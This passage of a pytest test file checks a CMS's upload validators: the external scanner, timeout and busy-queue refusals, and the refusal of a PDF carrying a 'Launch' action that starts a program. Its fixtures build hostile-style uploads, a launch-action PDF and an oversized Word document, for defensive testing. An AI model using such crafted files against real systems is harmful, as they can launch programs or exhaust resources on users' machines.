        validate(ContentFile(make(), name=name))
    assert refused.value.code == "scanner"


@pytest.mark.parametrize("name", UPLOADS)
def test_upload_that_the_scanner_passes_is_accepted(settings, name):
    settings.UPLOAD_SCANNER = ["test", "-s"]
    validate, make = UPLOADS[name]
    file = ContentFile(make(), name=name)
    validate(file)
    assert file.tell() == 0


def test_scanner_that_is_gone_passes_nothing(settings):
    settings.UPLOAD_SCANNER = ["/nowhere/scanner"]
    with pytest.raises(ValidationError, match="could not be checked"):
        validate_document(ContentFile(PDF, name="plan.pdf"))


# --- Limits ------------------------------------------------------------------------------------------------------


def test_document_that_takes_too_long_to_check_is_refused_in_words(monkeypatch):
    validate_document(ContentFile(word(), name="warm.docx"))
    monkeypatch.setattr("cms.content.validators.MAX_ARCHIVE_BYTES", 10 * LIMIT)
    monkeypatch.setattr("cms.content.runner.SECONDS", 0.05)
    monkeypatch.setattr("cms.content.runner.SECONDS_TO_START", 0)
    with pytest.raises(ValidationError, match="takes too long") as refused:
        validate_document(ContentFile(word_saying("<w:p/>" * 200_000), name="plan.docx"))
    assert refused.value.code == "time"


def test_upload_that_would_wait_too_long_is_refused_in_words(monkeypatch):
    def full(*args):
        raise Busy

    monkeypatch.setattr(uploads, "run", full)
    with pytest.raises(ValidationError, match="Choose the file again"):
        validate_document(ContentFile(PDF, name="plan.pdf"))


def test_refusal_says_what_the_document_has():
    with pytest.raises(ValidationError, match="This file has an action that starts a program"):
        validate_document(ContentFile(pdf_with_action("Launch"), name="plan.pdf"))
